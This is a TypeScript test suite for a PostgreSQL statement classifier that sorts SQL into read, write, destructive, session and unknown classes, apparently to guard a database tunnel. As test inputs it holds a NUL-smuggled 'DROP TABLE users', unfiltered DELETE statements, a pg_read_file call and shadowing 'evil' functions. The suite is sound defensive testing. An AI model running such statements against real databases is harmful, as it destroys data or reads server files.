  ['SELECT 1\u0000; DROP TABLE users', 'NUL'],
  ['\u00ff\u00fe\u0001\u0002 binary junk', 'could not parse'],
  [`SELECT ${'('.repeat(20000)}1${')'.repeat(20000)}`, 'could not'],
];

describe('classification fails closed', () => {
  it.each(mustFail.map(([sql, message]) => ({ sql, message, name: title(sql) })))(
    '$name',
    ({ sql, message }) => {
      const c = classify(sql);
      expect(c.failure).toContain(message);
      expect(c.classes.has('unknown')).toBe(true);
      expect(c.reasons).toContain(c.failure);
    },
  );

  it('fails on a node type the walker does not know, naming it', () => {
    const walk = new Walk('SELECT 1', {
      parse: () => ({}) as never,
      isExtraSafeFunction: () => false,
      handlers: HANDLERS,
    });
    const tree = { version: 180004, stmts: [{ stmt: { FancyNewStmt: { query: {} } } }] };
    const c = walk.run(tree as never);
    expect(c.failure).toContain('FancyNewStmt');
    expect(c.classes.has('unknown')).toBe(true);
  });

  it('fails on a known node type hidden in an unexpected place or shape', () => {
    const run = (stmt: unknown) =>
      new Walk('x', { parse: () => ({}) as never, isExtraSafeFunction: () => false, handlers: HANDLERS }).run(
        {
          version: 180004,
          stmts: [{ stmt }],
        } as never,
      );
    // A field that should hold a wrapper holds a bare struct.
    expect(run({ SelectStmt: { whereClause: { relname: 'users' } } }).failure).toBeDefined();
    // A wrapper with two node types.
    expect(run({ SelectStmt: {}, DropStmt: {} }).failure).toBeDefined();
    // An expression where a statement must be.
    expect(run({ A_Const: { ival: { ival: 1 } } }).failure).toContain('A_Const');
    // An analysed-tree node never appears in a raw parse tree.
    expect(run({ SelectStmt: { whereClause: { OpExpr: {} } } }).failure).toContain('OpExpr');
    // A statement nested where the grammar never puts one is still classified.
    expect([
      ...run({ SelectStmt: { whereClause: { DropStmt: { removeType: 'OBJECT_TABLE' } } } }).classes,
    ]).toContain('drop');
  });

  it('refuses to classify before the parser is loaded', async () => {
    vi.resetModules();
    const fresh = await import('../../tunnel/policy/classifier.ts');
    expect(() => fresh.createClassifier().classify('SELECT 1')).toThrow(/loadClassifier/);
  });
});

// ---- benign statements ----------------------------------------------------------------------------

function psqlQueries(): { name: string; sql: string }[] {
  const text = readFileSync(new URL('./fixtures/psql-describe.sql', import.meta.url), 'utf8');
  const parts = text.split(/^-- (psql \d+ .*)$/m);
  const queries: { name: string; sql: string }[] = [];
  for (let i = 1; i < parts.length; i += 2) {
    queries.push({ name: parts[i] as string, sql: (parts[i + 1] as string).trim() });
  }
  return queries;
}

function expectBenign(sql: string, allowed: readonly StatementClass[] = ['read', 'session']): void {
  const c = classify(sql);
  expect(c.failure).toBeUndefined();
  for (const cls of c.classes) expect(allowed, `${cls}: ${c.reasons.join('; ')}`).toContain(cls);
}

const benignGroups: Record<string, readonly string[]> = {
  pgjdbc: tools.pgjdbc,
  DBeaver: tools.dbeaver,
  DataGrip: tools.dataGrip,
  pgAdmin: tools.pgAdmin,
  pg_dump: tools.pgDump,
  'drivers and ORMs': tools.drivers,
  'application queries': tools.applicationQueries,
  'transactions, cursors and settings': tools.sessionStatements,
  'pgbench select-only': tools.pgbenchSelectOnly,
};

describe('what real tools send is only read and/or session', () => {
  const psql = psqlQueries();

  it('has the catalogue of real tool statements the spec asks for', () => {
    const count = psql.length + Object.values(benignGroups).reduce((n, list) => n + list.length, 0);
    expect(count).toBeGreaterThanOrEqual(300);
    const dangerousCount = Object.values(dangerous).reduce((n, list) => n + list.length, 0) + mustFail.length;
    expect(dangerousCount).toBeGreaterThanOrEqual(150);
  });

  describe('psql describe commands (psql 15, and 16–18 variants)', () => {
    it.each(psql)('$name', ({ sql }) => {
      expectBenign(sql);
      expect(classify(sql).classes.has('read')).toBe(true);
    });
  });

  for (const [group, list] of Object.entries(benignGroups)) {
    describe(group, () => {
      it.each(list.map((sql) => ({ sql, name: title(sql) })))('$name', ({ sql }) => {
        expectBenign(sql);
      });
    });
  }

  describe('pgbench TPC-B (writes, each with a real WHERE)', () => {
    it.each(tools.pgbenchTpcb.map((sql) => ({ sql, name: title(sql) })))('$name', ({ sql }) => {
      expectBenign(sql, ['read', 'write', 'session']);
    });
  });
});

// ---- details of the result ------------------------------------------------------------------------

describe('tables, writes and statement texts', () => {
  it('lists every table referenced anywhere, as PostgreSQL folds the names', () => {
    const c = classify(
      `SELECT * FROM Accounts a JOIN "Orders" o ON o.account_id = a.id JOIN app.items i ON true
       WHERE a.id IN (SELECT account_id FROM refunds) AND EXISTS (SELECT 1 FROM U&"\\0061udit")`,
    );
    expect(c.tables).toEqual([
      { name: 'accounts' },
      { name: 'Orders' },
      { schema: 'app', name: 'items' },
      { name: 'refunds' },
      { name: 'audit' },
    ]);
    expect(c.statements[0]?.writes).toEqual([]);
  });

  it('does not mistake CTE names for tables, but keeps the tables inside them', () => {
    const c = classify(
      'WITH recent AS (SELECT * FROM orders), totals AS (SELECT * FROM recent) SELECT * FROM totals, customers',
    );
    expect(c.tables).toEqual([{ name: 'orders' }, { name: 'customers' }]);
  });

  it('separates what a statement writes from what it reads', () => {
    const c = classify('INSERT INTO archive SELECT * FROM orders WHERE created_at < now()');
    expect(c.statements[0]?.writes).toEqual([{ name: 'archive' }]);
    expect(c.tables).toEqual([{ name: 'archive' }, { name: 'orders' }]);
    expect(classify('COPY app.events FROM STDIN').statements[0]?.writes).toEqual([
      { schema: 'app', name: 'events' },
    ]);
    expect(classify('COPY app.events TO STDOUT').statements[0]?.writes).toEqual([]);
    expect(classify('DROP TABLE app.events, logs').statements[0]?.writes).toEqual([
      { schema: 'app', name: 'events' },
      { name: 'logs' },
    ]);
    expect(classify('TRUNCATE a, b').statements[0]?.writes).toEqual([{ name: 'a' }, { name: 'b' }]);
    expect(classify('LOCK TABLE a IN ACCESS SHARE MODE').tables).toEqual([{ name: 'a' }]);
    expect(classify('EXPLAIN DELETE FROM a').statements[0]?.writes).toEqual([]);
    expect(classify('SELECT * FROM a FOR UPDATE OF a').tables).toEqual([{ name: 'a' }]);
  });

  it('gives each top-level statement its own classes and text, also after non-ASCII text', () => {
    const c = classify("SELECT 'héllo → wörld';\n  DELETE FROM t WHERE id = 1; -- done\nSHOW work_mem");
    expect(c.statements.map((s) => s.text)).toEqual([
      "SELECT 'héllo → wörld'",
      'DELETE FROM t WHERE id = 1',
      'SHOW work_mem',
    ]);
    expect(c.statements.map((s) => [...s.classes])).toEqual([['read'], ['write'], ['session']]);
    expect([...c.classes].sort()).toEqual(['read', 'session', 'write']);
  });

  it('explains every non-read class in words', () => {
    expect(classify('DROP TABLE users').reasons).toContain('DROP TABLE');
    expect(classify("SELECT pg_read_file('x')").reasons).toContain('call of pg_read_file()');
    expect(classify('DELETE FROM users').reasons).toContain('DELETE without WHERE');
    expect(classify('SELECT 1').reasons).toEqual([]);
  });

  it('tells plain EXPLAIN (planned only) from EXPLAIN ANALYZE (run)', () => {
    expect([...classify('EXPLAIN DELETE FROM users').classes]).toEqual(['read']);
    expect([...classify('EXPLAIN (ANALYZE off) DELETE FROM users').classes]).toEqual(['read']);
    expect(classify('EXPLAIN (ANALYZE) DELETE FROM users').classes.has('delete-without-where')).toBe(true);
  });

  it('always pairs specific classes with their general one', () => {
    for (const sql of ['TRUNCATE t', 'DELETE FROM t', 'UPDATE t SET x = 1']) {
      expect(classify(sql).classes.has('write')).toBe(true);
    }
    expect(classify('DROP VIEW v').classes.has('ddl')).toBe(true);
  });
});

describe('writes with a real WHERE are writes, not mass changes', () => {
  it.each(
    [
      'DELETE FROM users WHERE id = 1',
      'DELETE FROM users WHERE CURRENT OF c',
      'DELETE FROM users u USING orders o WHERE o.uid = u.id',
      'DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders o WHERE o.uid = users.id)',
      'DELETE FROM users WHERE id IN (SELECT uid FROM banned)',
      'DELETE FROM users WHERE NOT (id = 1)',
      'DELETE FROM users WHERE id = id AND status = $1',
      'UPDATE users SET n = n + 1 WHERE id = $1',
      'UPDATE users SET n = 0 WHERE lower(email) LIKE $1',
      "UPDATE users SET n = 0 WHERE name LIKE '%x%'",
      'UPDATE users u SET n = o.n FROM orders o WHERE o.uid = u.id',
      'MERGE INTO users u USING src s ON u.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
      'MERGE INTO users u USING src s ON u.id = s.id WHEN NOT MATCHED BY SOURCE AND u.stale THEN DELETE',
      'INSERT INTO users VALUES (1) ON CONFLICT (id) DO UPDATE SET n = excluded.n',
    ].map((sql) => ({ sql, name: title(sql) })),
  )('$name', ({ sql }) => {
    const c = classify(sql);
    expect(c.failure).toBeUndefined();
    expect(c.classes.has('write')).toBe(true);
    expect(c.classes.has('delete-without-where')).toBe(false);
    expect(c.classes.has('update-without-where')).toBe(false);
  });
});

describe('PREPARE and EXECUTE', () => {
  it('records what was prepared, without counting it as run', () => {
    const c = classify('PREPARE wipe(int) AS DELETE FROM users WHERE $1 = $1');
    expect([...c.classes]).toEqual(['session']);
    expect(c.prepared).toHaveLength(1);
    expect(c.prepared[0]?.name).toBe('wipe');
    expect([...(c.prepared[0]?.classification.classes ?? [])]).toEqual(
      expect.arrayContaining(['write', 'delete-without-where']),
    );
  });

  it('leaves an EXECUTE of something prepared elsewhere to the caller, who can resolve it', () => {
    const prepared = classify('PREPARE wipe AS DELETE FROM users').prepared[0]?.classification;
    const c = classify('EXECUTE wipe');
    expect(c.executes).toEqual(['wipe']);
    expect([...c.classes]).toEqual(['session']);
    const resolved = resolveExecutes(c, (name) => (name === 'wipe' ? prepared : undefined));
    expect([...resolved.classes]).toEqual(expect.arrayContaining(['write', 'delete-without-where']));
    expect(resolved.classes.has('unknown')).toBe(false);
    expect(resolved.executes).toEqual([]);
    expect(resolved.tables).toEqual([{ name: 'users' }]);

    const unresolved = resolveExecutes(c, () => undefined);
    expect(unresolved.classes.has('unknown')).toBe(true);
    expect(unresolved.executes).toEqual(['wipe']);
    expect(unresolved.reasons).toContain('EXECUTE wipe: no statement of that name was prepared');
  });

  it('keeps the first of two PREPAREs of one name (the server refuses the second) unless deallocated', () => {
    const twice = classify('PREPARE p AS DELETE FROM users; PREPARE p AS SELECT 1');
    expect(twice.prepared.map((p) => p.name)).toEqual(['p']);
    expect(twice.prepared[0]?.classification.classes.has('delete-without-where')).toBe(true);
    const again = classify('PREPARE p AS SELECT 1; DEALLOCATE p; PREPARE p AS DELETE FROM users; EXECUTE p');
    expect(again.prepared.map((p) => p.name)).toEqual(['p', 'p']);
    expect(again.classes.has('delete-without-where')).toBe(true);
  });

  it('resolves an EXECUTE against a PREPARE earlier in the same text', () => {
    const c = classify('PREPARE q AS SELECT * FROM orders; EXECUTE q');
    expect(c.executes).toEqual([]);
    expect([...c.classes].sort()).toEqual(['read', 'session']);
    expect(resolveExecutes(c, () => undefined)).toBe(c);
  });
});

describe('cursors', () => {
  it('names the cursors and portals that FETCH and MOVE run', () => {
    const c = classify('FETCH 10 FROM c; MOVE ALL IN "Portal"; FETCH NEXT c; CLOSE c');
    expect(c.cursors).toEqual(['c', 'Portal']);
    expect([...c.classes]).toEqual(['session']);
  });
});

describe('built-in names the target database shadows', () => {
  const user = (name: string, minArgs = 0, maxArgs = Infinity): FunctionOverload => ({
    schema: 'public',
    name,
    effects: ['dynamic'],
    origin: 'a user-defined function',
    minArgs,
    maxArgs,
  });
  const shadowed = createClassifier({
    routines: {
      functions: new Map([
        ['upper', [user('upper', 1, 1)]],
        ['fullname', [user('fullname', 1, 1)]],
      ]),
      operators: new Map([
        ['+', [{ schema: 'public', name: '+', prefix: false, function: user('evil_plus') }]],
      ]),
      castTargets: new Map([['int4', user('evil_cast')]]),
      implicitCasts: [],
    },
  });
  const dynamic = (sql: string): boolean => shadowed.classify(sql).classes.has('dynamic');

  it('distrusts unqualified calls, operators, casts and attributes that may resolve to them', () => {
    expect(dynamic("SELECT upper('x'::varchar)")).toBe(true);
    expect(dynamic('SELECT * FROM canary ORDER BY upper(note::varchar)')).toBe(true);
    expect(dynamic("SELECT 1 + 'a'::varchar")).toBe(true);
    expect(dynamic("SELECT '1'::varchar::int")).toBe(true);
    expect(dynamic('SELECT p.fullname FROM people p')).toBe(true);
  });

  it('still trusts what is qualified with pg_catalog, and names the database does not define', () => {
    expect(dynamic("SELECT pg_catalog.upper('x')")).toBe(false);
    expect(dynamic('SELECT 1 OPERATOR(pg_catalog.+) 2')).toBe(false);
    expect(dynamic("SELECT lower('x'), 1 - 2, '1'::text")).toBe(false);
    // Without the catalog's names the classifier trusts built-in names.
    expect(classify("SELECT upper('x'::varchar)").classes.has('dynamic')).toBe(false);
  });

  it('reads the catalog fingerprint with a query that is itself a plain read', () => {
    const c = classify(ROUTINE_FINGERPRINT_QUERY);
    expect(c.failure).toBeUndefined();
    expect([...c.classes]).toEqual(['read']);
  });
});

describe('settings', () => {
  it('reports the settings a text changes for the session, with lower-case names', () => {
    const c = classify(
      "SET DateStyle = ISO; SET LOCAL statement_timeout TO '5s'; RESET work_mem; SELECT set_config('Application_Name', 'x', false); SET TIME ZONE 'UTC'; SET NAMES 'UTF8'; SET TRANSACTION ISOLATION LEVEL SERIALIZABLE; RESET ALL",
    );
    expect(c.settings).toEqual([
      { name: 'datestyle', value: 'iso' },
      { name: 'statement_timeout', value: '5s' },
      { name: 'work_mem' },
      { name: 'application_name', value: 'x' },
      { name: 'timezone', value: 'UTC' },
      { name: 'client_encoding', value: 'UTF8' },
      { name: 'transaction_isolation', value: 'serializable' },
      { name: 'all' },
    ]);
  });

  it('does not report settings stored for later or defined inside functions and views', () => {
    expect(classify("ALTER ROLE bob SET work_mem = '1GB'").settings).toEqual([]);
    expect(classify("CREATE VIEW v AS SELECT set_config('work_mem', '1GB', false)").settings).toEqual([]);
    expect(classify("EXPLAIN SELECT set_config('work_mem', '1GB', false)").settings).toEqual([]);
    expect(
      classify('CREATE FUNCTION f() RETURNS int LANGUAGE sql SET work_mem = 1 AS $$ SELECT 1 $$').settings,
    ).toEqual([]);
  });

  it('keeps standard_conforming_strings on and safe encodings as ordinary settings', () => {
    for (const sql of [
      'SET standard_conforming_strings = on',
      "SET standard_conforming_strings TO 'true'",
      'SET standard_conforming_strings = 1',
      "SELECT set_config('standard_conforming_strings', 'yes', false)",
      "SET client_encoding = 'UTF8'",
      "SET client_encoding = 'LATIN1'",
      "SET NAMES 'EUC_JP'",
      'RESET client_encoding',
    ]) {
      const c = classify(sql);
      expect(c.failure, sql).toBeUndefined();
      expect(c.settings.length, sql).toBe(1);
    }
  });
});

describe('catalogues', () => {
  it('lists every statement class', () => {
    expect(STATEMENT_CLASSES).toHaveLength(12);
    expect(new Set(STATEMENT_CLASSES).size).toBe(12);
  });

  it('never lists a function as side-effect free that it also lists as dangerous', () => {
    for (const list of [
      FUNCTION_LISTS.serverAccess,
      FUNCTION_LISTS.write,
      FUNCTION_LISTS.ddl,
      FUNCTION_LISTS.dynamic,
      FUNCTION_LISTS.internal,
      FUNCTION_LISTS.session,
    ]) {
      for (const name of list) {
        expect(STABLE_BUILTIN_FUNCTIONS.has(name), name).toBe(false);
        expect(FUNCTION_LISTS.volatileRead.has(name), name).toBe(false);
      }
    }
    for (const name of FUNCTION_LISTS.volatileRead) expect(dangerousFunction(name, 1), name).toBeUndefined();
    expect(STABLE_BUILTIN_FUNCTIONS.size).toBeGreaterThan(1000);
  });

  it('knows every node type at most once: handled, by rule, or plain', () => {
    for (const type of HANDLED_NODE_TYPES) {
      expect(STATEMENT_RULES.has(type), type).toBe(false);
      expect(PLAIN_NODES.has(type), type).toBe(false);
    }
    for (const type of STATEMENT_RULES.keys()) expect(PLAIN_NODES.has(type), type).toBe(false);
  });

  it('matches the node definitions of the installed libpg-query (@pgsql/types)', () => {
    const types = readFileSync(
      new URL('../../node_modules/@pgsql/types/types.d.ts', import.meta.url),
      'utf8',
    );
    const interfaces = new Map<string, string>();
    for (const match of types.matchAll(/export interface (\w+) \{([^}]*)\}/g)) {
      interfaces.set(match[1] as string, match[2] as string);
    }
    const known = new Set([...HANDLED_NODE_TYPES, ...STATEMENT_RULES.keys(), ...PLAIN_NODES, 'RawStmt']);
    // Every node type the walker knows is a real one.
    for (const type of known) expect(interfaces.has(type), type).toBe(true);
    // Every statement type of the grammar is classified, except those that never reach a raw tree.
    const notInRawTrees = new Set(['SetOperationStmt', 'PLAssignStmt', 'RawStmt']);
    for (const type of interfaces.keys()) {
      if (type.endsWith('Stmt') && !notInRawTrees.has(type)) expect(known.has(type), type).toBe(true);
    }
    // Every field declared with a specific node type is listed as unwrapped, and only those.
    for (const type of known) {
      const body = interfaces.get(type) ?? '';
      const declared = new Map<string, string>();
      for (const line of body.split('\n')) {
        const field = /^\s+(\w+)\??: (\w+)(\[\])?;/.exec(line);
        if (field && interfaces.has(field[2] as string) && field[2] !== 'Node') {
          declared.set(field[1] as string, field[2] as string);
        }
      }
      if (type === 'CallStmt') declared.delete('funcexpr'); // set only after analysis
      if (type === 'IntoClause') declared.delete('viewQuery'); // set only after analysis
      expect(new Map(UNWRAPPED_FIELDS.get(type) ?? []), type).toEqual(declared);
    }
  });
});

describe('the cache', () => {
  it('returns the very same classification for the same text', () => {
    const sql = 'SELECT * FROM accounts WHERE id = 1';
    expect(classify(sql)).toBe(classify(sql));
    expect(classify(sql)).not.toBe(classify(`${sql} `));
  });

  it('can be sized, and disabled', () => {
    const none = createClassifier({ cacheSize: 0 });
    expect(none.classify('SELECT 1')).not.toBe(none.classify('SELECT 1'));
    const two = createClassifier({ cacheSize: 2 });
    const a = two.classify('SELECT 1');
    two.classify('SELECT 2');
    expect(two.classify('SELECT 1')).toBe(a); // refreshes SELECT 1
    two.classify('SELECT 3'); // evicts SELECT 2, the least recently used
    expect(two.classify('SELECT 1')).toBe(a);
  });

  it('hands out classifications that cannot be changed', () => {
    const c = classify('SELECT 1');
    expect(() => (c.classes as Set<StatementClass>).add('write')).toThrow();
    expect(() => (c.tables as unknown[]).push({ name: 'x' })).toThrow();
  });

  it('classifies thousands of statements without trouble', () => {
    const fresh = createClassifier({ cacheSize: 100 });
    for (let i = 0; i < 5000; i++) {
      const c = fresh.classify(`SELECT abalance FROM pgbench_accounts WHERE aid = ${i % 200}`);
      expect(c.failure).toBeUndefined();
    }
  });

  it('takes extra side-effect-free functions for a deployment', () => {
    const withPostgis = createClassifier({ safeFunctions: ['st_distance', 'public.st_makepoint'] });
    const sql = 'SELECT st_distance(a, public.st_makepoint(1, 2)) FROM places';
    expect([...withPostgis.classify(sql).classes]).toEqual(['read']);
    expect(classify(sql).classes.has('dynamic')).toBe(true);
  });
});
